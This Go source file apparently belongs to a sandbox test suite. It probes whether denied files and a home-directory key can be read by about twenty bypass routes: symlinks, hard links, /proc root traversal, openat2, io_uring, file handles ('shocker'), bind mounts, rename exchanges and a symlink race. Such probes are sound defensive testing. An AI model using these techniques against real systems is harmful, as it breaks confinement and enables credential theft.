//go:build linux

package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// readDeniedEveryWay is A08, against paths in the workspace that the policy denies, and
// against a key in the caller's home.
func readDeniedEveryWay() []probe {
	techniques := []struct {
		name string
		run  func(b *protocol.Brief, p string) protocol.Try
	}{
		{"direct", func(_ *protocol.Brief, p string) protocol.Try { return readName(p) }},
		{"symlink", func(b *protocol.Brief, p string) protocol.Try {
			l := fmt.Sprintf("%s/l%d", b.Work, scratchCount())
			if err := unix.Symlink(p, l); err != nil {
				return refused(err)
			}
			return readName(l)
		}},
		{"hard link", func(b *protocol.Brief, p string) protocol.Try {
			l := fmt.Sprintf("%s/h%d", b.Work, scratchCount())
			if err := unix.Link(p, l); err != nil {
				return refused(err)
			}
			return readName(l)
		}},
		{"/proc/self/root", func(_ *protocol.Brief, p string) protocol.Try { return readName("/proc/self/root" + p) }},
		{"/proc/1/root", func(_ *protocol.Brief, p string) protocol.Try { return readName("/proc/1/root" + p) }},
		{"root of every process", func(_ *protocol.Brief, p string) protocol.Try {
			return each(processes(), func(pid int) protocol.Try { return readName(fmt.Sprintf("/proc/%d/root%s", pid, p)) })
		}},
		{"cwd of every process", func(_ *protocol.Brief, p string) protocol.Try {
			return each(processes(), func(pid int) protocol.Try {
				return readName(fmt.Sprintf("/proc/%d/cwd/../../../../../../../..%s", pid, p))
			})
		}},
		{"openat2 RESOLVE_IN_ROOT", func(_ *protocol.Brief, p string) protocol.Try {
			d, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(d)
			fd, err := unix.Openat2(d, p, &unix.OpenHow{Flags: unix.O_RDONLY, Resolve: unix.RESOLVE_IN_ROOT})
			return readFD(fd, err)
		}},
		{"O_PATH and reopen", func(_ *protocol.Brief, p string) protocol.Try {
			fd, err := unix.Open(p, unix.O_PATH, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			return readName("/proc/self/fd/" + strconv.Itoa(fd))
		}},
		{"directory descriptor", func(_ *protocol.Brief, p string) protocol.Try {
			var t protocol.Try
			err := fromDir(p, unix.O_PATH, func(d int, base string) error {
				fd, err := unix.Openat(d, base, unix.O_RDONLY, 0)
				t = readFD(fd, err)
				return nil
			})
			if err != nil {
				return refused(err)
			}
			return t
		}},
		{"chdir", func(_ *protocol.Brief, p string) protocol.Try {
			if err := unix.Chdir(filepath.Dir(p)); err != nil {
				return refused(err)
			}
			return readName(filepath.Base(p))
		}},
		{"mmap", func(_ *protocol.Brief, p string) protocol.Try {
			fd, err := unix.Open(p, unix.O_RDONLY, 0)
			if err != nil {
				return refused(err)
			}
			defer unix.Close(fd)
			m, err := unix.Mmap(fd, 0, 32, unix.PROT_READ, unix.MAP_PRIVATE)
			if err != nil {
				return refused(err)
			}
			return looted(m)
		}},
		{"sendfile", func(b *protocol.Brief, p string) protocol.Try {
			return copyOut(b, p, func(out, in int) error { _, err := unix.Sendfile(out, in, nil, 4096); return err })
		}},
		{"copy_file_range", func(b *protocol.Brief, p string) protocol.Try {
			return copyOut(b, p, func(out, in int) error { _, err := unix.CopyFileRange(in, nil, out, nil, 4096, 0); return err })
		}},
		{"clone of blocks", func(b *protocol.Brief, p string) protocol.Try {
			return copyOut(b, p, unix.IoctlFileClone)
		}},
		{"look at its size", func(_ *protocol.Brief, p string) protocol.Try {
			var st unix.Statx_t
			if err := unix.Statx(unix.AT_FDCWD, p, 0, unix.STATX_ALL, &st); err != nil {
				return refused(err)
			}
			return inside("size %d is visible", st.Size)
		}},
		{"io_uring", func(_ *protocol.Brief, p string) protocol.Try {
			fd, err := uringOpen(p, unix.O_RDONLY, 0)
			return readFD(fd, err)
		}},
		{"int 0x80 open", func(_ *protocol.Brief, p string) protocol.Try {
			fd, err := foreignOpen(p, unix.O_RDONLY, 0)
			return readFD(fd, err)
		}},
		{"file handle", func(b *protocol.Brief, p string) protocol.Try { return openHandles(b) }},
		{"bind a copy elsewhere", func(b *protocol.Brief, p string) protocol.Try {
			if err := unix.Mount(filepath.Dir(p), b.Work+"/mnt", "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
				return refused(err)
			}
			return readName(b.Work + "/mnt/" + filepath.Base(p))
		}},
	}
	targets := []struct {
		name string
		path func(*protocol.Brief) string
	}{
		{"denied directory", func(b *protocol.Brief) string { return b.DenyReadDir + "/secret.txt" }},
		{"denied file", func(b *protocol.Brief) string { return b.DenyReadFile }},
		{"key in the home", func(b *protocol.Brief) string { return b.Secret }},
	}
	var ps []probe
	for _, tg := range targets {
		for _, tq := range techniques {
			ps = append(ps, probe{tg.name + ": " + tq.name, func(b *protocol.Brief) protocol.Try { return tq.run(b, tg.path(b)) }})
		}
	}
	return append(ps,
		probe{"list the denied directory", func(b *protocol.Brief) protocol.Try { return listDir(b.DenyReadDir) }},
		probe{"list the home", func(b *protocol.Brief) protocol.Try {
			for _, n := range names(b.Home) {
				if n == ".ssh" {
					return reached("the home shows its .ssh")
				}
			}
			return absentHome(b)
		}},
		probe{"swap a link in a race", func(b *protocol.Brief) protocol.Try { return raceRead(b, b.DenyReadDir+"/secret.txt") }},
	)
}

func absentHome(b *protocol.Brief) protocol.Try {
	if _, err := os.ReadDir(b.Home); err != nil {
		return refused(err)
	}
	return inside("the home shows no credentials")
}

func copyOut(b *protocol.Brief, p string, f func(out, in int) error) protocol.Try {
	in, err := unix.Open(p, unix.O_RDONLY, 0)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(in)
	to := fmt.Sprintf("%s/c%d", b.Work, scratchCount())
	out, err := unix.Open(to, unix.O_CREAT|unix.O_RDWR, 0o644)
	if err != nil {
		return refused(err)
	}
	defer unix.Close(out)
	if err := f(out, in); err != nil {
		return refused(err)
	}
	return readName(to)
}

// moveDenied is A09.
func moveDenied() []probe {
	move := func(from func(*protocol.Brief) string, file string, f func(from, to string) error) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			to := fmt.Sprintf("%s/m%d", b.Work, scratchCount())
			if err := f(from(b), to); err != nil {
				return refused(err)
			}
			t := readName(to + file)
			// Move it back, for the next technique.
			if _, err := os.Lstat(from(b)); err == nil {
				_ = unix.Renameat2(unix.AT_FDCWD, from(b), unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
			} else {
				_ = unix.Rename(to, from(b))
			}
			return t
		}
	}
	dir := func(b *protocol.Brief) string { return b.DenyReadDir }
	in := func(b *protocol.Brief) string { return b.DenyReadDir + "/secret.txt" }
	file := func(b *protocol.Brief) string { return b.DenyReadFile }
	exchange := func(from, to string) error {
		if err := os.WriteFile(to, nil, 0o644); err != nil {
			return err
		}
		return unix.Renameat2(unix.AT_FDCWD, from, unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
	}
	exchangeDir := func(from, to string) error {
		if err := os.Mkdir(to, 0o755); err != nil {
			return err
		}
		return unix.Renameat2(unix.AT_FDCWD, from, unix.AT_FDCWD, to, unix.RENAME_EXCHANGE)
	}
	return []probe{
		{"rename the directory", move(dir, "/secret.txt", unix.Rename)},
		{"rename a file in it", move(in, "", unix.Rename)},
		{"rename the file", move(file, "", unix.Rename)},
		{"exchange the directory", move(dir, "/secret.txt", exchangeDir)},
		{"exchange the file", move(file, "", exchange)},
		{"link the file", move(file, "", unix.Link)},
		{"rename the workspace", func(b *protocol.Brief) protocol.Try {
			if err := unix.Rename(b.Work, b.Work+"2"); err != nil {
				return refused(err)
			}
			t := readName(b.Work + "2/" + filepath.Base(b.DenyReadFile))
			_ = unix.Rename(b.Work+"2", b.Work)
			return t
		}},
	}
}

// fileHandle is A18, known as shocker.
func fileHandle() []probe {
	return []probe{
		{"handle of a secret", openHandles},
		{"handle of inode 2", func(b *protocol.Brief) protocol.Try {
			h := make([]byte, 8)
			binary.LittleEndian.PutUint32(h, 2)
			return openHandle(b, h, 1)
		}},
		{"handle of the workspace", func(b *protocol.Brief) protocol.Try {
			h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, b.Work, 0)
			if err != nil {
				return refused(err)
			}
			return openHandle(b, h.Bytes(), int(h.Type()))
		}},
	}
}

func openHandles(b *protocol.Brief) protocol.Try {
	if len(b.Handle) == 0 {
		return absent("the file system has no handles")
	}
	return openHandle(b, b.Handle, b.HType)
}

func openHandle(b *protocol.Brief, h []byte, typ int) protocol.Try {
	handle := unix.NewFileHandle(int32(typ), h)
	return each([]string{b.Work, "/", "/etc", "/usr", "/proc", "/tmp", "."}, func(dir string) protocol.Try {
		m, err := unix.Open(dir, unix.O_RDONLY, 0)
		if err != nil {
			return refused(err)
		}
		defer unix.Close(m)
		fd, err := unix.OpenByHandleAt(m, handle, unix.O_RDONLY)
		if err != nil {
			return refused(err)
		}
		t := readFD(fd, nil)
		if t.Outcome == protocol.Denied && t.Errno == "EISDIR" {
			return reached("opened a directory by its handle")
		}
		return t
	})
}

// processes lists every visible process except our own.
func processes() []int {
	var pids []int
	for _, n := range names("/proc") {
		if pid, err := strconv.Atoi(n); err == nil && pid != os.Getpid() && pid != os.Getppid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// raceRead swaps a name between a harmless file and a link to p, while it opens the name
// again and again.
func raceRead(b *protocol.Brief, p string) protocol.Try {
	dir := fmt.Sprintf("%s/race%d", b.Work, scratchCount())
	if err := os.Mkdir(dir, 0o755); err != nil {
		return refused(err)
	}
	plain, link := dir+"/a", dir+"/b"
	if err := errors.Join(os.WriteFile(plain, []byte("harmless"), 0o644), unix.Symlink(p, link)); err != nil {
		return refused(err)
	}
	f := newFlip(func(int) { _ = unix.Renameat2(unix.AT_FDCWD, plain, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE) })
	defer f.end()
	last := refused(unix.EACCES)
	for range 20000 {
		t := readName(plain)
		if t.Outcome == protocol.Reached {
			if t.Loot != "harmless" {
				return t
			}
			continue
		}
		last = t
	}
	return last
}
